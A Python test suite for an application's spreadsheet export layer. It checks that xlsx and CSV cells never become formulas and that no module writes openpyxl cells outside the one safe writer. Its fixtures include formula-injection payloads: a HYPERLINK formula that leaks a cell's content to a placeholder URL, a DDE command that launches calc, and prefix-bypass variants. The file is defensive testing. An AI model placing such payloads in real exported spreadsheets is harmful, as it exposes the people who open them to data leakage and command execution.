"""The one writer of spreadsheet cells (common.sheets): a text is shown as written and never a formula,
and no module writes openpyxl cells around it (so a future exporter cannot bypass it)."""

from __future__ import annotations

import ast
import csv
import io
from pathlib import Path

import openpyxl
import pytest
from openpyxl import Workbook

from ecoinspect.common import sheets
from ecoinspect.common.export import csv_bytes, xlsx_bytes

SRC = Path(__file__).resolve().parents[2] / "src" / "ecoinspect"
WRITER = SRC / "common" / "sheets.py"

HOSTILE = [
    '=HYPERLINK("http://x"&B3,"点此查看")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


def reopened(content: bytes):
    return openpyxl.load_workbook(io.BytesIO(content))


@pytest.mark.parametrize("write_only", [True, False])
def test_a_text_is_shown_as_written_and_never_a_formula(write_only):
    book = Workbook(write_only=write_only)
    sheet = book.create_sheet("t")
    sheets.append(sheet, [*HOSTILE, "普通文字", 12, -5, "-5", None])
    sheet.append([sheets.new_cell(sheet, text) for text in HOSTILE])
    out = io.BytesIO()
    book.save(out)
    opened = reopened(out.getvalue())["t"]
    for row in opened.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.coordinate
    first = [c.value for c in opened[1]]
    assert first[: len(HOSTILE)] == HOSTILE  # exactly as written, no apostrophe
    assert first[len(HOSTILE) :] == ["普通文字", 12, -5, "-5"]
    second = list(opened[2])[: len(HOSTILE)]
    assert [c.value for c in second] == HOSTILE
    # the quote prefix keeps the text text when someone edits the cell in Excel
    assert all(c.quotePrefix for c in second)


def test_unwritable_characters_are_dropped_instead_of_failing_the_file():
    content = xlsx_bytes(["标题"], [["a\x00b\x07c", "\ud800x"]])
    row = list(reopened(content).active.iter_rows(values_only=True))[1]
    assert row == ("abc", "x")


def test_csv_cells_that_would_be_formulas_get_an_apostrophe():
    text = csv_bytes(["h"], [[v] for v in HOSTILE]).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert [r[0] for r in rows[1:]] == ["'" + v for v in HOSTILE]


# --- the guard: nothing writes openpyxl cells but the writer ----------------------------------------------

SHEET_MAKERS = ("create_sheet", "active", "get_sheet_by_name", "worksheets")


def _imports_openpyxl(tree: ast.AST) -> bool:
    for node in ast.walk(tree):
        if isinstance(node, ast.ImportFrom) and (node.module or "").startswith("openpyxl"):
            return True
        if isinstance(node, ast.Import) and any(a.name.startswith("openpyxl") for a in node.names):
            return True
    return False


def _sheet_names(tree: ast.AST) -> set[str]:
    """Names bound to a worksheet: ``x = book.create_sheet(...)``, ``x = book.active``, ``x = book[...]``."""
    names = set()
    for node in ast.walk(tree):
        if isinstance(node, ast.Assign) and len(node.targets) == 1 and isinstance(node.targets[0], ast.Name):
            source = ast.unparse(node.value)
            if any(maker in source for maker in SHEET_MAKERS):
                names.add(node.targets[0].id)
    return names


def _made_by_writer(node: ast.AST, cell_names: set[str]) -> bool:
    """Is ``node`` (what is appended to a sheet) built by the writer: ``row_cells(...)``, or a list of
    ``new_cell(...)`` calls or of names bound to them?"""

    def one(item: ast.AST) -> bool:
        if isinstance(item, ast.Name):
            return item.id in cell_names
        return isinstance(item, ast.Call) and ast.unparse(item.func).split(".")[-1] == "new_cell"

    if isinstance(node, ast.Call):
        return ast.unparse(node.func).split(".")[-1] in ("row_cells", "new_cell")
    if isinstance(node, ast.List):
        return all(one(e) for e in node.elts)
    if isinstance(node, ast.ListComp):
        return one(node.elt)
    if isinstance(node, ast.Name):
        return node.id in cell_names
    return False


def direct_cell_writes(source: str, where: str) -> list[str]:
    """Where a module writes an openpyxl cell itself: ``WriteOnlyCell(...)``, ``.cell(..., value=...)``,
    ``cell.value = ...``, ``sheet["A1"] = ...``, ``sheet.append(...)`` of anything the writer did not make."""
    tree = ast.parse(source)
    if not _imports_openpyxl(tree):
        return []
    found = []
    sheet_names = _sheet_names(tree)
    cell_names = {
        t.id
        for node in ast.walk(tree)
        if isinstance(node, ast.Assign) and _made_by_writer(node.value, set())
        for t in node.targets
        if isinstance(t, ast.Name)
    }
    for node in ast.walk(tree):
        line = f"{where}:{getattr(node, 'lineno', '?')}"
        if isinstance(node, ast.Call):
            name = node.func.attr if isinstance(node.func, ast.Attribute) else getattr(node.func, "id", "")
            if name == "WriteOnlyCell":
                found.append(f"{line} WriteOnlyCell(...)")
            if name == "cell" and any(k.arg == "value" for k in node.keywords):
                found.append(f"{line} .cell(value=...)")
            receiver = node.func.value if isinstance(node.func, ast.Attribute) else None
            appended = node.args[0] if node.args else None
            if (
                name == "append"
                and isinstance(receiver, ast.Name)
                and receiver.id in sheet_names
                and not (appended is not None and _made_by_writer(appended, cell_names))
            ):
                found.append(f"{line} {receiver.id}.append({ast.unparse(appended)[:40] if appended else ''})")
        if isinstance(node, ast.Assign):
            for target in node.targets:
                if isinstance(target, ast.Attribute) and target.attr == "value":
                    found.append(f"{line} {ast.unparse(target)} = ...")
                if (
                    isinstance(target, ast.Subscript)
                    and isinstance(target.value, ast.Name)
                    and target.value.id in sheet_names
                ):
                    found.append(f"{line} {ast.unparse(target)} = ...")
    return found


def test_no_module_writes_spreadsheet_cells_around_the_one_writer():
    offenders = [
        hit
        for path in sorted(SRC.rglob("*.py"))
        if path != WRITER
        for hit in direct_cell_writes(path.read_text(encoding="utf-8"), str(path.relative_to(SRC.parent)))
    ]
    assert offenders == [], (
        "write cells through ecoinspect.common.sheets (put, new_cell, row_cells, append):\n"
        + "\n".join(offenders)
    )


def test_the_guard_finds_every_direct_write():
    source = (
        "from openpyxl import Workbook\n"
        "from openpyxl.cell import WriteOnlyCell\n"
        "book = Workbook()\n"
        "sheet = book.active\n"
        "sheet.append(['=1+1'])\n"
        "sheet['A2'] = '=2+2'\n"
        "sheet.cell(row=3, column=1, value='=3')\n"
        "sheet.cell(row=4, column=1).value = '=4'\n"
        "sheet.append([WriteOnlyCell(sheet, value='=5')])\n"
        "sheet.append(sheets.row_cells(sheet, ['=6']))\n"
    )
    assert len(direct_cell_writes(source, "probe.py")) == 6  # the last line goes through the writer
